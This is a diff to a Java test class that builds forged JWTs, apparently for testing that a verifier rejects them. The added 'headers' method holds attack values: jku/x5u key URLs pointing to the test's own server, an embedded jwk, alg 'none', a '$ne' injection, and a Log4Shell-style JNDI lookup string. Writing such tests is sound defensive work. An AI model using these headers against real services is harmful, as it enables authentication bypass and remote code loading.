@@ -59,6 +59,7 @@ final class ForgedTokens {
         macs(forged);
         edits(forged);
         ownKeys(forged);
+        headers(forged);
         shapes(forged);
         return forged;
     }
@@ -140,12 +141,46 @@ final class ForgedTokens {
         }
     }
 
+    /** Headers that point to a key of the attacker's, or are not what readers of headers expect. */
+    private void headers(Map<String, String> forged) {
+        String kid = realmKey.getKeyID();
+        String own = ownKey.toPublicJWK().toJSONString();
+        String keys = ownServer.resolve("/certs").toString();
+        for (String fields : List.of(
+                "\"kid\":\"" + kid + "\",\"jku\":\"" + keys + "\"",
+                "\"kid\":\"" + kid + "\",\"x5u\":\"" + keys + "\"",
+                "\"kid\":\"" + kid + "\",\"jku\":\"" + keys + "\",\"jwk\":" + own,
+                "\"kid\":\"" + kid + "\",\"x5c\":[\"" + encoded(own) + "\"]",
+                "\"kid\":\"" + kid + "\",\"iss\":\"" + keys + "\"",
+                "\"kid\":[\"" + kid + "\",\"attacker\"]",
+                "\"kid\":{\"$ne\":\"\"}",
+                "\"kid\":0",
+                "\"kid\":null",
+                "\"kid\":\"${jndi:ldap://" + ownServer.getAuthority() + "/x}\"",
+                "\"kid\":\"" + kid + "\",\"kid\":\"attacker\"",
+                "\"kid\":\"" + kid + "\",\"alg\":\"none\"",
+                "\"kid\":\"" + kid + "\",\"zip\":\"DEF\"",
+                "\"kid\":\"" + kid + "\",\"b64\":false,\"crit\":[\"b64\"]",
+                "\"kid\":\"" + kid + "\",\"crit\":[]",
+                "\"kid\":\"" + kid + "\",\"crit\":[\"alg\"]")) {
+            String payload = new String(Base64.getUrlDecoder().decode(parts[1]), StandardCharsets.UTF_8);
+            forged.put(
+                    "own key, header " + forged.size() + " "
+                            + fields.replace(kid, "KID").lines().findFirst().orElse(""),
+                    RealmKey.sign(ownKey, "{\"alg\":\"RS256\"," + fields + "}", payload));
+        }
+    }
+
     private void shapes(Map<String, String> forged) {
         forged.put("five parts", token + ".a.b");
         forged.put("two parts", parts[0] + "." + parts[1]);
         forged.put("no parts", "..");
         forged.put("padded", parts[0] + "=." + parts[1] + "." + parts[2]);
         forged.put("plain text", "let-me-in");
+        forged.put(
+                "as JSON",
+                "{\"payload\":\"" + parts[1] + "\",\"signatures\":[{\"protected\":\"" + parts[0] + "\",\"signature\":\""
+                        + parts[2] + "\"}]}");
         forged.put(
                 "another realm's issuer, kept signature", withClaim(claims -> claims.put("iss", ownServer.toString())));
         forged.put(
